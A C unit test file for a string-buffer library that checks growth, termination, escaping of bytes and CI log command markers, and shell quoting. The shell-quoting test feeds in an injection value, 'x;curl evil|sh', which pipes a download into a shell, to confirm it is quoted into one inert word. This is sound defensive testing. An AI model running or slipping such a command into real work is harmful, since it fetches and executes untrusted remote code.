/* SPDX-License-Identifier: Apache-2.0 */
/* test_strbuf - a buffer grows, stays terminated and escapes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/cleanup.h"
#include "base/strbuf.h"

static void empty_is_text_too(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	char *text;

	(void)state;
	assert_string_equal(strbuf_text(&sb), "");
	strbuf_clear(&sb);
	text = strbuf_steal(&sb);
	assert_string_equal(text, "");
	free(text);
	strbuf_release(&sb);
	strbuf_release(&sb);
}

static void adds_bytes_text_and_formats(void **state)
{
	autorelease_strbuf struct strbuf sb = STRBUF_INIT;

	(void)state;
	strbuf_adds(&sb, "a");
	strbuf_addc(&sb, 'b');
	strbuf_addf(&sb, "%d-%s", 7, "c");
	strbuf_add(&sb, "\0d", 2);
	strbuf_add(&sb, NULL, 0);
	assert_int_equal(sb.len, 7);
	assert_memory_equal(sb.buf, "ab7-c\0d", 8);
}

static void grows_and_stays_terminated(void **state)
{
	autorelease_strbuf struct strbuf sb = STRBUF_INIT;

	(void)state;
	for (size_t i = 0; i < 10000; i++) {
		strbuf_addc(&sb, 'x');
		assert_int_equal(sb.len, i + 1);
		assert_int_equal(sb.buf[sb.len], '\0');
		assert_true(sb.cap > sb.len);
	}
	strbuf_addf(&sb, "%5000d", 1);
	assert_int_equal(sb.len, 15000);
	assert_int_equal(strlen(sb.buf), 15000);
	strbuf_clear(&sb);
	assert_string_equal(strbuf_text(&sb), "");
}

static void steal_leaves_it_empty(void **state)
{
	autorelease_strbuf struct strbuf sb = STRBUF_INIT;
	char *text;

	(void)state;
	strbuf_adds(&sb, "mine");
	text = strbuf_steal(&sb);
	assert_string_equal(text, "mine");
	assert_int_equal(sb.len, 0);
	assert_string_equal(strbuf_text(&sb), "");
	free(text);
}

static void escapes_every_byte_to_ascii_on_one_line(void **state)
{
	autorelease_strbuf struct strbuf sb = STRBUF_INIT;
	unsigned char all[256];

	(void)state;
	for (size_t i = 0; i < sizeof(all); i++)
		all[i] = (unsigned char)i;
	assert_int_equal(strbuf_add_escaped(&sb, all, sizeof(all), 256), 0);
	for (size_t i = 0; i < sb.len; i++)
		assert_in_range(sb.buf[i], 0x20, 0x7e);
	strbuf_clear(&sb);
	strbuf_add_escaped(&sb, "a\"b\\c\n\x1b\x7f\xff", 9, 100);
	assert_string_equal(sb.buf,
			    "a\\\"b\\\\c\\u000a\\u001b\\u007f\\u00ff");
}

static void escapes_what_makes_a_command(void **state)
{
	static const struct {
		const char *text, *want;
	} rows[] = {
		{ "##vso[task.x]y", "##vso\\u005btask.x]y" },
		{ "a##[b]", "a##\\u005bb]" },
		{ "###Team-City_1.x[", "###Team-City_1.x\\u005b" },
		{ "#\x01#\x02v\x03[", "#\\u0001#\\u0002v\\u0003\\u005b" },
		{ "##a b[c]", "##a b[c]" },
		{ "#a[b] [", "#a[b] [" },
		{ "[", "[" },
		{ "#[", "#[" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		autorelease_strbuf struct strbuf sb = STRBUF_INIT;

		strbuf_add_escaped(&sb, rows[i].text, strlen(rows[i].text),
				   SIZE_MAX);
		assert_string_equal(sb.buf, rows[i].want);
	}
}

static void escaping_takes_no_more_than_asked(void **state)
{
	autorelease_strbuf struct strbuf sb = STRBUF_INIT;

	(void)state;
	assert_int_equal(strbuf_add_escaped(&sb, "abcdef", 6, 4), 2);
	assert_string_equal(sb.buf, "abcd");
	assert_int_equal(strbuf_add_escaped(&sb, "abc", 3, 0), 3);
}

static void is_word(const char *text, const char *want)
{
	char *word = strbuf_shell_word(text);

	assert_string_equal(word, want);
	free(word);
}

static void a_word_of_a_shell_stays_one(void **state)
{
	(void)state;
	is_word("/ws/a-b_c.sh", "/ws/a-b_c.sh");
	is_word("", "''");
	is_word("a b", "'a b'");
	is_word("~", "'~'");
	is_word("x;curl evil|sh", "'x;curl evil|sh'");
	is_word("it's $(x)", "'it'\\''s $(x)'");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(empty_is_text_too),
		cmocka_unit_test(adds_bytes_text_and_formats),
		cmocka_unit_test(grows_and_stays_terminated),
		cmocka_unit_test(steal_leaves_it_empty),
		cmocka_unit_test(escapes_every_byte_to_ascii_on_one_line),
		cmocka_unit_test(a_word_of_a_shell_stays_one),
		cmocka_unit_test(escapes_what_makes_a_command),
		cmocka_unit_test(escaping_takes_no_more_than_asked),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
